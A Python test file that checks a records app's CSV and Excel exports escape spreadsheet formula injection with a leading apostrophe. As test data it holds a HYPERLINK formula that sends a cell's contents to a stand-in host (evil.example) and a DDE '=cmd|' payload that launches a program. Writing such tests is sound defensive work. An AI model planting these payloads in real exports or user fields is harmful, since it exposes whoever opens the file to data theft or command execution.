"""Formula injection (issue 14, item 3): every CSV and Excel export writes text that a
spreadsheet would run as a formula with a leading apostrophe; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from apps.core.cells import SafeWriter, neutralise
from apps.core.testing.factories import PersonFactory, make_place
from apps.places.choices import PlaceKind

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_it_neutralises_formula_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [42, -7, 3.5, Decimal("-1.25"), date(2026, 1, 1), True, None])
def test_numbers_dates_and_empties_stay_as_they_are(value):
    assert neutralise(value) is value


def test_plain_text_is_unchanged():
    assert neutralise("张桂英") == "张桂英"
    assert neutralise("3****************4") == "3****************4"


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerows([[EVIL, 5, "-3"]])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'" + EVIL, "5", "'-3"]


@pytest.fixture
def evil_resident(world):
    return PersonFactory(name=EVIL[:50], place=world.household_a)


def test_the_residents_workbook_has_no_formula(client, world, evil_resident):
    client.force_login(world.user("town_staff"))
    response = client.get("/ledgers/export/residents.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(data)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "'" + EVIL[:50] in names
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.coordinate


def test_the_residents_csv_has_no_formula(client, world, evil_resident):
    client.force_login(world.user("county_leader"))
    text = b"".join(client.get("/ledgers/export/residents.csv").streaming_content).decode(
        "utf-8-sig"
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + EVIL[:50]] == [r[1] for r in rows[1:] if "HYPERLINK" in r[1]]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_duties_coverage_csv_has_no_formula(client, world):
    make_place(PlaceKind.HOUSEHOLD, "=cmd|' /C calc'!A0", world.unit_a)
    client.force_login(world.user("community_a"))
    response = client.get("/duties/coverage/export/", {"place": world.community_a.pk})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'=cmd|' /C calc'!A0" in [r[1] for r in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
